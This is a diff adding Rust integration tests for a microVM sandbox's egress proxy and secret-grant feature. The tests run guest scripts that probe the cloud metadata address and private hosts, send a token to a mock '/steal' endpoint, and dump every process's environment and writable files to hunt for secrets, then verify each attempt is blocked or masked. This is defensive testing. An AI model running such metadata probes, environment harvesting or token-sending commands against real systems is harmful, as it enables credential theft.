@@ -11,7 +11,7 @@ use cordon_core::{
     Error, ExecOutcome, ExecRequest, Language, OutputStream, Sandbox, SandboxSpec, Termination,
     Tier,
 };
-use cordon_microvm::{MicrovmBackend, MicrovmConfig, MicrovmSandbox};
+use cordon_microvm::{EgressTuning, MicrovmBackend, MicrovmConfig, MicrovmSandbox};
 
 struct Env {
     backend: MicrovmBackend,
@@ -19,6 +19,10 @@ struct Env {
 }
 
 fn env() -> Option<Env> {
+    env_with(EgressTuning::default())
+}
+
+fn env_with(tuning: EgressTuning) -> Option<Env> {
     let data = cordon_microvm::image::default_data_dir();
     let missing = if !nix::unistd::geteuid().is_root() {
         Some("not root".to_string())
@@ -50,6 +54,7 @@ fn env() -> Option<Env> {
     let mut cfg = MicrovmConfig::with_data_dir(data);
     cfg.run_dir = tmp.path().join("run");
     cfg.snapshot_dir = tmp.path().join("snapshots");
+    cfg.egress_tuning = tuning;
     Some(Env {
         backend: MicrovmBackend::new(cfg),
         _tmp: tmp,
@@ -296,6 +301,361 @@ fn kernel_panic_and_qemu_crash_are_reported() {
     let mut sb = env.backend.create_cold(&spec()).unwrap();
     let o = run(&mut sb, Language::Sh, "echo cold");
     assert_eq!(stdout(&o), "cold\n");
+    destroy_and_check(sb);
+    finish(env);
+}
+
+// ---------------------------------------------------------------- egress
+
+/// A resolver for the egress tests: names the tests use point at loopback, the metadata
+/// address and a private address; nothing else resolves.
+fn tuning(names: &[(&str, &str)], upstream_ca: Option<String>) -> EgressTuning {
+    let resolver = cordon_egress::StaticResolver::new();
+    for (name, ip) in names {
+        resolver.set(name, &[ip.parse().unwrap()]);
+    }
+    EgressTuning(Some(std::sync::Arc::new(move |cfg| {
+        cfg.resolver = Some(std::sync::Arc::new(resolver.clone()));
+        if let Some(pem) = &upstream_ca {
+            cfg.upstream_roots = cordon_egress::UpstreamRoots {
+                system: false,
+                extra_pem: vec![pem.clone()],
+            };
+        }
+    })))
+}
+
+/// Python in the guest: `get(url, token)` returns (status, refusing rule, body) and never
+/// raises.
+const PY_GET: &str = r#"
+import json, os, socket, sys, time, urllib.request, urllib.error
+def get(url, token=None):
+    h = {'Authorization': 'Bearer ' + token} if token else {}
+    try:
+        r = urllib.request.urlopen(urllib.request.Request(url, headers=h), timeout=30)
+        return [r.status, r.headers.get('x-cordon-rule', ''), r.read().decode()]
+    except urllib.error.HTTPError as e:
+        return [e.code, e.headers.get('x-cordon-rule', ''), e.read().decode()]
+    except Exception as e:
+        return [0, '', repr(e)]
+"#;
+
+fn json_out(o: &ExecOutcome) -> serde_json::Value {
+    let text = stdout(o);
+    serde_json::from_str(text.trim()).unwrap_or_else(|e| {
+        panic!(
+            "no JSON from the guest ({e}): {text}\nstderr: {}",
+            String::from_utf8_lossy(&o.stderr)
+        )
+    })
+}
+
+#[test]
+fn egress_reaches_only_allowed_hosts_through_the_proxy() {
+    let Some(env) = env_with(tuning(
+        &[
+            ("meta.example.test", "169.254.169.254"),
+            ("intranet.example.test", "10.1.2.3"),
+            ("sneaky.example.test", "127.0.0.1"),
+        ],
+        None,
+    )) else {
+        return;
+    };
+    let up = cordon_testkit::egress::Upstream::start();
+    let p = up.port;
+
+    // Without an allow-list the VM's egress port leads nowhere: no forwarder, no variables.
+    let mut closed = env.backend.create_restored(&spec()).unwrap();
+    let o = run(
+        &mut closed,
+        Language::Python,
+        &format!(
+            "{PY_GET}\nprint(json.dumps({{'proxy': os.environ.get('HTTP_PROXY'), 'fwd': socket.socket().connect_ex(('127.0.0.1', 3128))}}))"
+        ),
+    );
+    let v = json_out(&o);
+    assert_eq!(v["proxy"], serde_json::Value::Null, "{v}");
+    assert_ne!(v["fwd"], 0, "something listens on 3128 without egress: {v}");
+    destroy_and_check(closed);
+
+    let mut s = spec();
+    s.egress.allow = vec![format!("127.0.0.1/32:{p}"), "*.example.test".into()];
+    let mut sb = env.backend.create_restored(&s).unwrap();
+    let script = format!(
+        r#"{PY_GET}
+P = {p}
+out = {{}}
+out['allowed'] = get(f'http://127.0.0.1:{{P}}/vm')
+out['other_port'] = get(f'http://127.0.0.1:{{P + 1}}/')
+out['unlisted'] = get('http://elsewhere.test/')
+out['metadata_ip'] = get('http://169.254.169.254/latest/meta-data/')
+out['metadata_name'] = get('http://meta.example.test/latest/meta-data/')
+out['private_name'] = get('http://intranet.example.test/')
+out['loopback_name'] = get('http://sneaky.example.test/')
+d = {{}}
+for host, port in [('127.0.0.1', P), ('10.0.2.2', 80), ('169.254.169.254', 80), ('1.1.1.1', 443)]:
+    s = socket.socket()
+    s.settimeout(3)
+    try:
+        s.connect((host, port)); d[f'{{host}}:{{port}}'] = 'CONNECTED'
+    except OSError as e:
+        d[f'{{host}}:{{port}}'] = e.errno
+out['direct'] = d
+out['net'] = sorted(os.listdir('/sys/class/net'))
+t = []
+for i in range(15):
+    t0 = time.perf_counter(); get(f'http://127.0.0.1:{{P}}/t{{i}}'); t.append(time.perf_counter() - t0)
+out['proxied_ms'] = sorted(t)[7] * 1000
+import http.server, threading
+class H(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        self.send_response(200); self.send_header('Content-Length', '2'); self.end_headers(); self.wfile.write(b'ok')
+    def log_message(self, *a): pass
+srv = http.server.HTTPServer(('127.0.0.1', 0), H)
+threading.Thread(target=srv.serve_forever, daemon=True).start()
+local = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
+t = []
+for i in range(15):
+    t0 = time.perf_counter(); local.open(f'http://127.0.0.1:{{srv.server_port}}/').read(); t.append(time.perf_counter() - t0)
+out['local_ms'] = sorted(t)[7] * 1000
+print(json.dumps(out))
+"#
+    );
+    let o = run(&mut sb, Language::Python, &script);
+    let v = json_out(&o);
+    eprintln!(
+        "microvm egress: median urllib GET through the proxy {:.1} ms, to a server on the guest's own loopback {:.1} ms",
+        v["proxied_ms"].as_f64().unwrap(),
+        v["local_ms"].as_f64().unwrap()
+    );
+    // The allowed upstream answers through the proxy.
+    assert_eq!(v["allowed"][0], 200, "{v}");
+    assert_eq!(
+        v["allowed"][2],
+        cordon_testkit::egress::Upstream::BODY,
+        "{v}"
+    );
+    // Everything else gets a 403 naming the rule that refused it.
+    for (k, rule) in [
+        ("other_port", "default-deny"),
+        ("unlisted", "default-deny"),
+        ("metadata_ip", "default-deny"),
+        ("metadata_name", "address-guard"),
+        ("private_name", "address-guard"),
+        ("loopback_name", "address-guard"),
+    ] {
+        assert_eq!(v[k][0], 403, "{k}: {v}");
+        let got = v[k][1].as_str().unwrap();
+        assert!(got.starts_with(rule), "{k}: rule {got}, want {rule}: {v}");
+        assert!(
+            v[k][2].as_str().unwrap().contains("cordon egress: refused"),
+            "{k}: {v}"
+        );
+    }
+    // No route but the proxy: the guest's own loopback has nothing on the upstream's port,
+    // and there is no other interface.
+    assert_eq!(v["net"], serde_json::json!(["lo"]), "{v}");
+    for (k, errno) in v["direct"].as_object().unwrap() {
+        assert_ne!(errno, "CONNECTED", "direct connect to {k}: {v}");
+    }
+    assert_eq!(
+        v["direct"][format!("127.0.0.1:{p}")],
+        libc::ECONNREFUSED,
+        "{v}"
+    );
+    assert_eq!(v["direct"]["10.0.2.2:80"], libc::ENETUNREACH, "{v}");
+    // The upstream saw the allowed request and the latency loop, nothing refused.
+    let seen = up.requests();
+    assert!(seen[0].starts_with("GET /vm "), "{seen:?}");
+    assert_eq!(seen.len(), 16, "{seen:?}");
+    // Decisions are audited in the outcome.
+    let events = o.extra["egress"].as_array().unwrap();
+    assert!(
+        events.iter().filter(|e| e["decision"] == "deny").count() >= 6,
+        "{events:?}"
+    );
+    destroy_and_check(sb);
+    finish(env);
+}
+
+/// A TLS upstream on loopback for `name`, under a CA of its own; answers every request
+/// with the `Authorization` header it got and records it.
+struct TlsUpstream {
+    port: u16,
+    ca_pem: String,
+    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
+}
+
+fn tls_upstream(name: &str) -> TlsUpstream {
+    use rcgen::{BasicConstraints, CertificateParams, DnType, IsCa, Issuer, KeyPair};
+    use rustls::pki_types::{PrivateKeyDer, PrivatePkcs8KeyDer};
+    use std::io::{BufRead, BufReader, Write};
+    let ca_key = KeyPair::generate().unwrap();
+    let mut ca = CertificateParams::default();
+    ca.distinguished_name
+        .push(DnType::CommonName, "microvm egress test CA");
+    ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
+    let ca_pem = ca.self_signed(&ca_key).unwrap().pem();
+    let issuer = Issuer::new(ca, ca_key);
+    let key = KeyPair::generate().unwrap();
+    let cert = CertificateParams::new(vec![name.to_string()])
+        .unwrap()
+        .signed_by(&key, &issuer)
+        .unwrap();
+    let cfg = std::sync::Arc::new(
+        rustls::ServerConfig::builder_with_provider(std::sync::Arc::new(
+            rustls::crypto::ring::default_provider(),
+        ))
+        .with_safe_default_protocol_versions()
+        .unwrap()
+        .with_no_client_auth()
+        .with_single_cert(
+            vec![cert.der().clone()],
+            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
+        )
+        .unwrap(),
+    );
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+    let log = seen.clone();
+    std::thread::spawn(move || {
+        for tcp in listener.incoming().flatten() {
+            let conn = rustls::ServerConnection::new(cfg.clone()).unwrap();
+            let mut tls = rustls::StreamOwned::new(conn, tcp);
+            let mut auth = String::new();
+            {
+                let mut r = BufReader::new(&mut tls);
+                loop {
+                    let mut line = String::new();
+                    if r.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
+                        break;
+                    }
+                    if let Some(v) = line.to_ascii_lowercase().strip_prefix("authorization:") {
+                        let start = line.len() - v.len();
+                        auth = line[start..].trim().to_string();
+                    }
+                }
+            }
+            log.lock().unwrap().push(auth.clone());
+            let body = format!("you sent: {auth}");
+            let _ = write!(
+                tls,
+                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                body.len()
+            );
+            tls.conn.send_close_notify();
+            let _ = tls.flush();
+        }
+    });
+    TlsUpstream { port, ca_pem, seen }
+}
+
+/// Whether a (large, binary) file holds `needle`; grep is far faster than a debug build.
+fn file_contains(path: &Path, needle: &str) -> bool {
+    std::process::Command::new("grep")
+        .args(["-q", "-F", "-a", "--", needle])
+        .arg(path)
+        .status()
+        .unwrap()
+        .success()
+}
+
+#[test]
+fn grant_is_swapped_only_for_its_host_and_the_secret_never_enters_the_vm() {
+    const HOST: &str = "api.grant.test";
+    let tls = tls_upstream(HOST);
+    let Some(env) = env_with(tuning(&[(HOST, "127.0.0.1")], Some(tls.ca_pem.clone()))) else {
+        return;
+    };
+    let plain = cordon_testkit::egress::Upstream::start();
+    let mut raw = [0u8; 18];
+    getrandom::fill(&mut raw).unwrap();
+    let secret = format!("ghp_{}", hex::encode(raw));
+    let dir = tempfile::tempdir().unwrap();
+    let secret_file = dir.path().join("token");
+    std::fs::write(&secret_file, &secret).unwrap();
+    let (p, q) = (tls.port, plain.port);
+    let mut s = spec();
+    s.egress.allow = vec![
+        format!("{HOST}:{p}"),
+        format!("127.0.0.1/32:{p}"),
+        format!("127.0.0.1/32:{q}"),
+    ];
+    s.grants.push(cordon_core::Grant {
+        name: "github".into(),
+        env_var: "GITHUB_TOKEN".into(),
+        secret: cordon_core::GrantSecret::File(secret_file.display().to_string()),
+        hosts: vec![HOST.into()],
+        header: "authorization".into(),
+        methods: vec![],
+        path_prefixes: vec![],
+    });
+    let mut sb = env.backend.create_restored(&s).unwrap();
+    let script = format!(
+        r#"{PY_GET}
+tok = os.environ['GITHUB_TOKEN']
+out = {{'token': tok}}
+out['granted'] = get('https://{HOST}:{p}/user', tok)
+out['exfil'] = get('http://127.0.0.1:{q}/steal', tok)
+out['ca'] = open(os.environ['SSL_CERT_FILE']).read(64)
+print(json.dumps(out))
+"#
+    );
+    let o = run(&mut sb, Language::Python, &script);
+    let v = json_out(&o);
+    let ph = v["token"].as_str().unwrap().to_string();
+    assert!(ph.starts_with("cordon-ph-") && ph != secret, "{v}");
+    // The granted host got the real secret; the sandbox saw its echo masked.
+    assert_eq!(v["granted"][0], 200, "{v}");
+    assert_eq!(
+        tls.seen.lock().unwrap().clone(),
+        vec![format!("Bearer {secret}")]
+    );
+    assert!(
+        v["granted"][2]
+            .as_str()
+            .unwrap()
+            .starts_with("you sent: Bearer ****"),
+        "{v}"
+    );
+    // The placeholder on its way to another (allowed) host is refused and audited.
+    assert_eq!(v["exfil"][0], 403, "{v}");
+    assert!(plain.requests().is_empty(), "{:?}", plain.requests());
+    let events = o.extra["egress"].as_array().unwrap();
+    assert!(
+        events.iter().any(|e| e["decision"] == "exfiltration"),
+        "{events:?}"
+    );
+    assert!(
+        v["ca"]
+            .as_str()
+            .unwrap()
+            .starts_with("-----BEGIN CERTIFICATE-----")
+    );
+
+    // Everything a program in the VM can read: its environment, every process's, the files
+    // Cordon wrote and the writable trees.
+    let o = run(
+        &mut sb,
+        Language::Bash,
+        "env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'; find /run /work /tmp /dev/shm -type f -exec cat {} + 2>/dev/null; true",
+    );
+    assert!(stdout(&o).contains(&ph), "the probe saw nothing");
+    assert!(
+        !stdout(&o).contains(&secret),
+        "the real secret is visible in the VM"
+    );
+    // And the guest's whole RAM: the placeholder is there (the dump is real), the secret
+    // never.
+    let dump = sb.dump_guest_memory().unwrap();
+    let size = std::fs::metadata(&dump).unwrap().len();
+    assert!(size >= 256 << 20, "dump of {size} bytes");
+    let (has_ph, has_secret) = (file_contains(&dump, &ph), file_contains(&dump, &secret));
+    std::fs::remove_file(&dump).unwrap();
+    assert!(has_ph, "placeholder not in the memory dump");
+    assert!(!has_secret, "the real secret is in the guest's memory");
     destroy_and_check(sb);
     finish(env);
 }
